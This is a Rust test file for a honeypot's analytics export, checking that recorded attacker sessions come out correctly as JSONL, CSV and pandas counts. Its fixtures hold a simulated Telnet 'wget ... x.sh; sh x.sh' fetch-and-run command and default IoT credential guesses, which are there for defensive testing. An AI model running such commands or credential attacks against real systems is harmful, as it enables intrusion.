//! Exports: one row per attack (the default) and one row per event, JSON lines readable by
//! pandas (the field report's own analysis), CSV, typed values, filters, evicted counts.
// Tests, benches and examples may panic; the workspace denies unwrap/expect elsewhere.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod analytics_support;
use analytics_support::*;
use drosera_admin::analytics::{self, Query};
use drosera_admin::export::{export, Format, ATTACK_COLUMNS, CSV_COLUMNS};
use drosera_uplink::event::{EvictedKind, EvictedSource, Priority, Protocol, SampleOutcome, Transport};

fn exported(c: &dyn drosera_admin::storage::Storage, q: &Query, f: Format) -> (u64, String) {
    let mut out = Vec::new();
    let n = export(c, q, f, &mut out).unwrap();
    (n, String::from_utf8(out).unwrap())
}

#[test]
fn events_jsonl_has_the_mhn_fields_and_typed_detail_fields() {
    let dir = tempfile::tempdir().unwrap();
    let mut c = fixture(&dir.path().join("a.db"));
    analytics::refresh(&mut *c, &enricher()).unwrap();
    let (n, text) = exported(&*c, &Query::default(), Format::EventsJsonl);
    assert_eq!(n, 32);
    let rows: Vec<serde_json::Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(rows.len(), 32);
    let first = &rows[0];
    for k in ["timestamp", "source_ip", "source_port", "destination_port", "protocol", "sensor", "country", "kind"] {
        assert!(first.get(k).is_some(), "missing {k} in {first}");
    }
    assert_eq!(first["timestamp"], "2024-05-01T01:01:00.000Z");
    assert_eq!(first["source_ip"], "8.8.8.8");
    assert_eq!(first["country"], "US");
    assert_eq!(first["asn"], 15169);
    assert_eq!(first["username"], "root");
    assert_eq!(first["password"], "xc3511");
    let payload = rows.iter().find(|r| r["kind"] == "payload").unwrap();
    assert_eq!(payload["sha256"], "ab".repeat(32));
    // Typed: numbers are numbers, flags booleans; attacker text stays text.
    assert_eq!(payload["size"], 1234);
    assert_eq!(payload["truncated"], false);
    assert_eq!(first["success"], false);
    assert_eq!(first["password"], "xc3511");
    // a detail field named like a common one is prefixed
    let scan_like = rows.iter().find(|r| r["kind"] == "rollup").unwrap();
    assert_eq!(scan_like["connections"], 100);
    assert_eq!(scan_like["count"], 100);

    // filters: sensor and exact time bounds
    let q = Query { sensor: Some("s2".into()), ..Default::default() };
    assert_eq!(exported(&*c, &q, Format::EventsJsonl).0, 6);
    let q = Query {
        since_ms: Some(T0 + HOUR + 60_000),
        until_ms: Some(T0 + HOUR + 61_000),
        sensor: None,
        ..Default::default()
    };
    assert_eq!(exported(&*c, &q, Format::EventsJsonl).0, 1, "until is exclusive, exact to the ms");
}

#[test]
fn events_csv_has_a_header_and_one_line_per_event() {
    let dir = tempfile::tempdir().unwrap();
    let mut c = fixture(&dir.path().join("a.db"));
    analytics::refresh(&mut *c, &enricher()).unwrap();
    let (n, text) = exported(&*c, &Query::default(), Format::EventsCsv);
    assert_eq!(n, 32);
    let mut lines = text.lines();
    assert_eq!(lines.next().unwrap(), CSV_COLUMNS.join(","));
    assert_eq!(lines.count(), 32);
    assert!(
        text.contains("2024-05-01T01:01:00.000Z,8.8.8.8,40000,23,telnet,tcp,s1,US,15169,\"Google LLC\"")
            || text.contains("2024-05-01T01:01:00.000Z,8.8.8.8,40000,23,telnet,tcp,s1,US,15169,Google LLC"),
        "{text}"
    );
}

/// The per-event export read by pandas.
#[test]
fn pandas_reads_the_events_jsonl_export() {
    let Some(python) = pandas_python() else { return };
    let dir = tempfile::tempdir().unwrap();
    let mut c = fixture(&dir.path().join("a.db"));
    analytics::refresh(&mut *c, &enricher()).unwrap();
    let path = dir.path().join("events.jsonl");
    let mut f = std::fs::File::create(&path).unwrap();
    export(&*c, &Query::default(), Format::EventsJsonl, &mut f).unwrap();
    drop(f);
    let script = r#"
import sys, json, pandas
df = pandas.read_json(sys.argv[1], lines=True)
counts = lambda s: json.dumps({k: int(v) for k, v in sorted(s.value_counts().items())})
print(counts(df.source_ip))
print(counts(df.protocol))
print(len(df), counts(df.country))
"#;
    let out = std::process::Command::new(python).args(["-c", script]).arg(&path).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let s = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = s.lines().collect();
    assert_eq!(
        lines[0], r#"{"0.0.0.0": 1, "1.1.1.1": 6, "10.0.0.5": 5, "2a00:1450:4001::1": 1, "8.8.8.8": 19}"#,
        "{s}"
    );
    assert_eq!(lines[1], r#"{"http": 5, "sensor": 1, "smb": 1, "ssh": 6, "telnet": 19}"#, "{s}");
    assert_eq!(lines[2], r#"32 {"": 1, "AU": 6, "IE": 1, "US": 19, "private": 5}"#, "{s}");
}

/// `/usr/bin/python3` when it has pandas; `None` (the test skips) when not, unless
/// `DROSERA_REQUIRE_CLIENTS=1`, which makes a missing pandas a failure.
fn pandas_python() -> Option<&'static str> {
    let python = "/usr/bin/python3";
    let has_pandas =
        std::process::Command::new(python).args(["-c", "import pandas"]).status().map(|s| s.success()).unwrap_or(false);
    if !has_pandas {
        if std::env::var("DROSERA_REQUIRE_CLIENTS").as_deref() == Ok("1") {
            panic!("python3-pandas is required (scripts/install-deps.sh installs it)");
        }
        eprintln!("skipping: python3 with pandas not installed");
        return None;
    }
    Some(python)
}

/// A session as a sensor records it: its events in the order they happen (stamped when they
/// happen), then the connection record, written last but stamped with the session's start.
#[allow(clippy::too_many_arguments)]
fn session(
    out: &mut Vec<drosera_uplink::event::Event>,
    seq: &mut u64,
    start: i64,
    proto: Protocol,
    ip: &str,
    port: u16,
    id: u64,
    details: Vec<drosera_uplink::event::Detail>,
) {
    let n = details.len() as i64;
    for (i, d) in details.into_iter().enumerate() {
        *seq += 1;
        out.push(ev(*seq, start + 100 + i as i64 * 100, proto, ip, port, id, d));
    }
    *seq += 1;
    let mut c = ev(*seq, start, proto, ip, port, id, conn());
    c.duration_ms = (200 + n * 100) as u32;
    out.push(c);
}

fn http_form_login(path: &str) -> drosera_uplink::event::Detail {
    drosera_uplink::event::Detail::HttpRequest {
        method: "POST".into(),
        path: path.into(),
        query: String::new(),
        host: "h".into(),
        user_agent: "Hydra".into(),
        body_sha256: Some([5; 32]),
        body_len: 27,
        extra: vec![],
    }
}

/// Known connections per address, with logins, commands, payloads and samples, sessions of
/// one address overlapping in time and the same session ids on two sensors; plus the sensor's
/// own health records. Returns (attacks per address, attacks per protocol).
/// (name, number) pairs, sorted by name.
type Counts = Vec<(&'static str, i64)>;

fn attacks_fixture(c: &dyn drosera_admin::storage::Storage) -> (Counts, Counts) {
    use drosera_uplink::event::Detail;
    let mut s1 = Vec::new();
    let mut s2 = Vec::new();
    let (mut q1, mut q2) = (0u64, 0u64);
    // 12 SSH connections from one address, 3 passwords each (36 login events), overlapping;
    // one of the 36 logins succeeds.
    for i in 0..12u64 {
        let mut d = vec![login("root", "123456"), login("root", &format!("pw,\"{i}\"")), login("admin", "admin")];
        if i == 4 {
            d[2] = Detail::Login {
                username: "admin".into(),
                secret: drosera_uplink::event::Secret::Password("admin".into()),
                success: true,
                extra: vec![],
            };
        }
        session(&mut s1, &mut q1, T0 + i as i64 * 150, Protocol::Ssh, "203.0.113.1", 22, 1 + i, d);
    }
    // The same session ids on a second sensor: other attacks.
    for i in 0..3u64 {
        session(
            &mut s2,
            &mut q2,
            T0 + i as i64 * 150,
            Protocol::Ssh,
            "203.0.113.1",
            22,
            1 + i,
            vec![login("pi", "raspberry")],
        );
    }
    // 10 Telnet connections with commands, a download and (in one) a payload and its sample.
    for i in 0..10u64 {
        let mut d = vec![
            login("root", "xc3511"),
            Detail::Command { line: "cd /tmp; wget http://198.51.100.7/x.sh".into() },
            Detail::DownloadOffered { url: "http://198.51.100.7/x.sh".into(), tool: "wget".into() },
            Detail::Command { line: "sh x.sh".into() },
        ];
        if i == 7 {
            d.push(Detail::Payload {
                sha256: [0xcd; 32],
                size: 99,
                name: "x.sh".into(),
                prefix: vec![],
                truncated: false,
            });
            d.push(Detail::Sample {
                sha256: [0xcd; 32],
                size: 99,
                name: "x.sh".into(),
                source: "telnet-echo".into(),
                outcome: SampleOutcome::Kept,
            });
        }
        session(&mut s1, &mut q1, T0 + HOUR + i as i64 * 1000, Protocol::Telnet, "203.0.113.2", 23, 100 + i, d);
    }
    // 3 HTTP form logins.
    for i in 0..3u64 {
        let d = vec![http_form_login("/login"), login("admin", "password")];
        session(&mut s1, &mut q1, T0 + 2 * HOUR + i as i64, Protocol::Http, "198.51.100.9", 80, 200 + i, d);
    }
    // The sensor's own health records are no attacks.
    for h in 0..3 {
        q1 += 1;
        let mut e = drosera_uplink::event::Event::internal(Detail::Health(drosera_uplink::event::Health {
            governor: "normal".into(),
            ..Default::default()
        }));
        e.seq = q1;
        e.time_ms = T0 + h * HOUR + 30;
        s1.push(e);
    }
    s1.sort_by_key(|e| e.seq);
    s2.sort_by_key(|e| e.seq);
    insert(c, "s1", &s1);
    insert(c, "s2", &s2);
    (
        vec![("198.51.100.9", 3), ("203.0.113.1", 15), ("203.0.113.2", 10)],
        vec![("http", 3), ("ssh", 15), ("telnet", 10)],
    )
}

/// The field report's own analysis (field-report-dionaea-2019.md), run on the default export:
/// attacks per address are the connections made, whatever the sessions did inside.
#[test]
fn the_field_reports_pandas_code_counts_attacks_per_address() {
    let dir = tempfile::tempdir().unwrap();
    let mut c = Db::open(&location(&dir.path().join("a.db")));
    let (per_ip, per_proto) = attacks_fixture(&*c);
    analytics::refresh(&mut *c, &enricher()).unwrap();
    let (n, text) = exported(&*c, &Query::default(), Format::Jsonl);
    assert_eq!(n, 28, "one row per connection:\n{text}");
    let rows: Vec<serde_json::Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(rows.iter().all(|r| r["source_ip"] != "0.0.0.0" && r["protocol"] != "sensor"), "{text}");
    assert!(rows.iter().all(|r| r["kind"] == "connection" && r["count"] == 1 && r["evicted"] == false));
    // Facts folded in, typed.
    let ssh = rows.iter().find(|r| r["sensor"] == "s1" && r["session_id"] == 5).unwrap();
    assert_eq!(ssh["login_attempts"], 3);
    assert_eq!(ssh["success"], true);
    assert_eq!(ssh["credentials"][1], serde_json::json!(["root", "pw,\"4\""]));
    assert_eq!(ssh["destination_port"], 22);
    assert_eq!(ssh["duration_ms"], 500);
    let tel = rows.iter().find(|r| r["session_id"] == 107).unwrap();
    assert_eq!(tel["command_count"], 2);
    assert_eq!(tel["downloads"], serde_json::json!(["http://198.51.100.7/x.sh"]));
    assert_eq!(tel["payloads"], serde_json::json!(["cd".repeat(32)]));
    assert_eq!(tel["samples"], serde_json::json!(["cd".repeat(32)]));
    assert_eq!(tel["username"], "root");
    let s2: Vec<_> = rows.iter().filter(|r| r["sensor"] == "s2").collect();
    assert_eq!(s2.len(), 3, "same session ids on another sensor are other attacks");

    // CSV: the same rows, text cells.
    let (n_csv, csv) = exported(&*c, &Query::default(), Format::Csv);
    assert_eq!(n_csv, 28);
    assert_eq!(csv.lines().next().unwrap(), ATTACK_COLUMNS.join(","));

    let Some(python) = pandas_python() else { return };
    let path = dir.path().join("sessionFile.json");
    std::fs::write(&path, &text).unwrap();
    // Verbatim from the report, minus the parts that look countries up on the network.
    let script = r#"
import sys, json
import pandas as pd
df = pd.read_json(sys.argv[1], lines=True)

#top Ip addresses that have tried accessing the hp
ips = df.source_ip.value_counts()
ipAbove10 = ips[ips.values >= 10]
ipAbove10 = ipAbove10.reset_index()
attackers = ipAbove10
attackers.rename(columns={"index":"source_ip", "source_ip":"attacks"}, inplace=True)

##Number of different protocols used:
numberOfProtocols = df["protocol"].value_counts()
numberOfProtocols = numberOfProtocols.reset_index()
numberOfProtocols.rename(columns={"index":"protocol", "protocol":"count"}, inplace=True)

print(json.dumps({k: int(v) for k, v in sorted(ips.items())}))
print(json.dumps({k: int(v) for k, v in sorted(zip(attackers.source_ip, attackers.attacks))}))
print(json.dumps({k: int(v) for k, v in sorted(zip(numberOfProtocols.protocol, numberOfProtocols["count"]))}))
print(len(df[df.success]), int(df.login_attempts.sum()), int(df["count"].sum()), str(df.success.dtype))
"#;
    let out = std::process::Command::new(python).args(["-c", script]).arg(&path).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let s = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = s.lines().collect();
    let obj = |v: &[(&str, i64)]| {
        serde_json::Value::Object(v.iter().map(|(k, n)| (k.to_string(), serde_json::json!(n))).collect()).to_string()
    };
    let parsed = |l: &str| serde_json::from_str::<serde_json::Value>(l).unwrap().to_string();
    assert_eq!(parsed(lines[0]), obj(&per_ip), "{s}");
    let above10: Vec<_> = per_ip.iter().copied().filter(|(_, n)| *n >= 10).collect();
    assert_eq!(parsed(lines[1]), obj(&above10), "{s}");
    assert_eq!(parsed(lines[2]), obj(&per_proto), "{s}");
    // df[df.success] keeps the one session with a successful login (a boolean column).
    assert_eq!(lines[3], "1 52 28 bool", "{s}");

    // The label column: our own address labelled self, pandas keeps the attacks by it.
    let (own, own_attacks) = per_ip[0];
    drosera_admin::labels::add(&*c, own, &drosera_admin::labels::Label::SelfTest, "", 10, 1).unwrap();
    let (_, text) = exported(&*c, &Query::default(), Format::Jsonl);
    std::fs::write(&path, &text).unwrap();
    let script = r#"
import sys
import pandas as pd
df = pd.read_json(sys.argv[1], lines=True)
print(len(df[df.label.isna()]), len(df[df.label == "self"]), df[df.label == "self"].source_ip.unique().tolist())
"#;
    let out = std::process::Command::new(python).args(["-c", script]).arg(&path).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let s = String::from_utf8(out.stdout).unwrap();
    assert_eq!(s.trim(), format!("{} {own_attacks} ['{own}']", 28 - own_attacks), "{s}");
}

/// An eviction gap's account goes back into the report's totals and the default export, and
/// the overview numbers say how much was evicted.
#[test]
fn evicted_counts_are_added_back_into_reports_and_the_export() {
    use drosera_uplink::event::Detail;
    let dir = tempfile::tempdir().unwrap();
    let mut c = Db::open(&location(&dir.path().join("a.db")));
    let mut evs = Vec::new();
    let mut seq = 0u64;
    session(&mut evs, &mut seq, T0 + 10 * HOUR, Protocol::Ssh, "203.0.113.1", 22, 1, vec![login("root", "x")]);
    seq += 1;
    let mut gap = drosera_uplink::event::Event::internal(Detail::EvictionSummary {
        count: 130,
        first_seq: 1000,
        last_seq: 1129,
        first_time_ms: T0 + HOUR,
        last_time_ms: T0 + 2 * HOUR,
        per_priority: vec![(Priority::Noise, 120), (Priority::Credential, 10)],
        per_kind: vec![
            EvictedKind {
                hour_ms: T0 + HOUR,
                protocol: Protocol::Ssh,
                dst_port: 22,
                kind: "connection".into(),
                events: 70,
                count: 70,
            },
            EvictedKind {
                hour_ms: T0 + 2 * HOUR,
                protocol: Protocol::Telnet,
                dst_port: 23,
                kind: "connection".into(),
                events: 50,
                count: 50,
            },
            EvictedKind {
                hour_ms: T0 + HOUR,
                protocol: Protocol::Ssh,
                dst_port: 22,
                kind: "login".into(),
                events: 10,
                count: 10,
            },
        ],
        top_sources: vec![
            EvictedSource { ip: "203.0.113.1".parse().unwrap(), events: 80, attempts: 70 },
            EvictedSource { ip: "203.0.113.2".parse().unwrap(), events: 50, attempts: 50 },
        ],
        sources: 2,
    });
    gap.seq = seq;
    gap.time_ms = T0 + 3 * HOUR;
    evs.push(gap);
    assert_eq!(evs.last().unwrap().transport, Transport::Internal);
    insert(&*c, "s1", &evs);
    analytics::refresh(&mut *c, &enricher()).unwrap();
    let q = Query { since_ms: Some(T0), until_ms: Some(T0 + DAY), sensor: None, ..Default::default() };
    let t = analytics::totals(&*c, &q).unwrap();
    assert_eq!(t.attempts, 121, "1 stored + 120 evicted connections: {t:?}");
    assert_eq!(t.logins, 11);
    assert_eq!((t.evicted_events, t.evicted_attempts), (130, 120), "{t:?}");
    let protos = analytics::protocols(&*c, &q).unwrap();
    let ssh = protos.iter().find(|p| p.protocol == "ssh").unwrap();
    assert_eq!((ssh.attempts, ssh.logins), (71, 11));
    let top = analytics::top_sources(&*c, &q, 0, 10).unwrap();
    let a = top.rows.iter().find(|r| r.ip == "203.0.113.1").unwrap();
    assert_eq!(a.attempts, 71);
    let tl = analytics::timeline(&*c, &q).unwrap();
    assert_eq!(tl.attempts.iter().sum::<i64>(), 121, "the timeline puts evicted attempts in their hours");
    let text = analytics::report(&*c, &q, 0, 10).unwrap().to_text();
    assert!(text.contains("evicted 130 events (120 attempts)"), "{text}");
    // The export: one evicted row per listed address, `count` its evicted attempts.
    let (n, out) = exported(&*c, &q, Format::Jsonl);
    assert_eq!(n, 3, "{out}");
    let rows: Vec<serde_json::Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let total: i64 = rows.iter().map(|r| r["count"].as_i64().unwrap()).sum();
    assert_eq!(total, t.attempts);
    assert!(rows.iter().filter(|r| r["evicted"] == true).all(|r| r["kind"] == "evicted"));
}
